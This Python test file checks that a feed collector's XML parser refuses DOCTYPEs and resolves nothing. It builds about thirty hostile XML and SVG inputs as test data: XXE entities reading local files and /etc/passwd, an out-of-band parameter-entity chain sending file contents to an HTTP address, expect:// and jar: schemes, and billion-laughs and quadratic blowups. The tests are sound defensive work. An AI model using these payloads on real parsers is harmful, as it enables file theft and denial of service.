"""H6: XML and SVG resolve nothing: no entity, no file, no address, at every place where XML comes in."""

import time
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from ascertain.collect import collect
from ascertain.model import AscertainError, Item, Skipped
from ascertain.safety.xml import parse_xml

CANARY = "canary-that-must-not-be-read"
FEED = "<rss version='2.0'><channel><title>t</title><item><title>{body}</title></item></channel></rss>"


def _declared(*declarations: str, root: str = "rss", body: str = "&e;") -> str:
    return f"<?xml version='1.0'?><!DOCTYPE {root} [{''.join(declarations)}]>{FEED.format(body=body)}"


def files(secret: str) -> dict[str, str]:
    """Return the documents, each with a name."""
    url = f"file://{secret}"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    made = {
        "internal": _declared(f'<!ENTITY e "{CANARY}">'),
        "file": _declared(f'<!ENTITY e SYSTEM "{url}">'),
        "path": _declared(f'<!ENTITY e SYSTEM "{secret}">'),
        "public": _declared(f'<!ENTITY e PUBLIC "x" "{url}">'),
        "http": _declared('<!ENTITY e SYSTEM "http://127.0.0.1:9/x">'),
        "ftp": _declared('<!ENTITY e SYSTEM "ftp://127.0.0.1:9/x">'),
        "jar": _declared(f'<!ENTITY e SYSTEM "jar:{url}!/x">'),
        "php": _declared('<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">'),
        "expect": _declared('<!ENTITY e SYSTEM "expect://id">'),
        "dev": _declared('<!ENTITY e SYSTEM "file:///dev/zero">'),
        "parameter": _declared(f'<!ENTITY % p SYSTEM "{url}">%p;'),
        "parameter_http": _declared('<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd">%p;'),
        "out_of_band": _declared(
            f'<!ENTITY % f SYSTEM "{url}"><!ENTITY % d "<!ENTITY &#x25; s SYSTEM \'http://127.0.0.1:9/%f;\'>">%d;%s;'
        ),
        "billion_laughs": _declared('<!ENTITY l0 "lol">', laughs, '<!ENTITY e "&l9;">'),
        "quadratic": _declared(f'<!ENTITY e "{"x" * 50_000}">', body="&e;" * 5_000),
        "recursive": _declared('<!ENTITY e "&f;"><!ENTITY f "&e;">'),
        "external_subset": f"<?xml version='1.0'?><!DOCTYPE rss SYSTEM '{url}'>{FEED.format(body='x')}",
        "external_http": f"<?xml version='1.0'?><!DOCTYPE rss SYSTEM 'http://127.0.0.1:9/'>{FEED.format(body='x')}",
        "unparsed": _declared(f'<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{url}" NDATA n>', body="x"),
        "default_attribute": _declared(f'<!ATTLIST title a CDATA "{CANARY}">', body="x"),
        "conditional": _declared("<![INCLUDE[<!ENTITY e 'x'>]]>"),
    }
    plain = {
        "xinclude": FEED.format(
            body=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" parse="text"/>'
        ),
        "xslt": f'<?xml-stylesheet type="text/xsl" href="{url}"?>{FEED.format(body="x")}',
        "stylesheet_http": f'<?xml-stylesheet href="http://127.0.0.1:9/x.css"?>{FEED.format(body="x")}',
        "schema": FEED.format(body="x").replace(
            "<rss ", f'<rss xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="a {url}" '
        ),
        "svg_image": FEED.format(body=f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'),
        "svg_use": FEED.format(body=f'<svg><use href="{url}#x"/></svg>'),
        "undeclared": FEED.format(body="&e;"),
        "deep": FEED.format(body="<a>" * 60_000 + "</a>" * 60_000),
        "long_name": FEED.format(body=f"<{'a' * 500_000}/>"),
    }
    return {**made, **plain}


NAMES = sorted(files("/x"))


def test_there_are_30_files() -> None:
    assert len(NAMES) >= 30


@pytest.mark.parametrize("suffix", [".rss", ".xml", ".atom"])
@pytest.mark.parametrize("name", NAMES)
def test_nothing_is_resolved_at_any_entry_point(name: str, suffix: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(CANARY)
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / f"a{suffix}").write_text(files(str(secret))[name])
    started = time.monotonic()
    records = [record for record in collect([folder]) if isinstance(record, Item | Skipped)]
    assert records and time.monotonic() - started < 10
    told = "".join(record.text if isinstance(record, Item) else record.why for record in records)
    assert CANARY not in told and "root:" not in told and len(told) < 1_000_000


@pytest.mark.parametrize("name", [name for name in NAMES if "<!DOCTYPE" in files("/x")[name]])
def test_the_parser_itself_refuses_document_types(name: str) -> None:
    with pytest.raises(AscertainError):
        parse_xml(files("/x")[name].encode())


def test_control_the_standard_parser_resolves_the_internal_entity() -> None:
    """Control: the standard library's parser on the same document."""
    root = ElementTree.fromstring(files("/x")["internal"])
    assert CANARY in "".join(root.itertext())
